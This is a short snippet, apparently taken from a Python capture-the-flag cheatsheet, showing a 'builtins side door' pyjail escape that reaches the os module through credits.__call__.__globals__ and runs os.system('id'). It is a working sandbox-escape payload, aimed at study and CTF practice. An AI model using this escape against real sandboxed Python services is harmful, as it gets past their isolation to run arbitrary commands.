# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (Restore builtins: credits.__call__.__globals__)
# Family: builtins-side-door
# What: credits.__call__.__globals__['sys'].modules['os']
credits.__call__.__globals__["sys"].modules["os"].system("id")
